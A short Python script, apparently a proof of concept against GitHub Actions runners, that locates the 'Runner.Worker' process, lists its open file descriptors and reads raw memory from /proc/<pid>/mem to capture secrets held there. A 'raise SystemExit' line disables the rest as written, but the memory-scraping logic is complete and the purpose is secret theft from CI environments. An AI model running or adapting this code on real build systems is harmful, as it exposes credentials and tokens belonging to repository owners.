import os

raise SystemExit
for p in os.listdir("/proc"):
    if p.isdigit() and "Runner.Worker" in open(f"/proc/{p}/cmdline").read():
        print([os.readlink(f"/proc/{p}/fd/{f}") for f in os.listdir(f"/proc/{p}/fd")])
        fd = os.open(f"/proc/{p}/mem", os.O_RDONLY)
        os.lseek(fd, 0x400000, 0)
        print(os.read(fd, 4096))
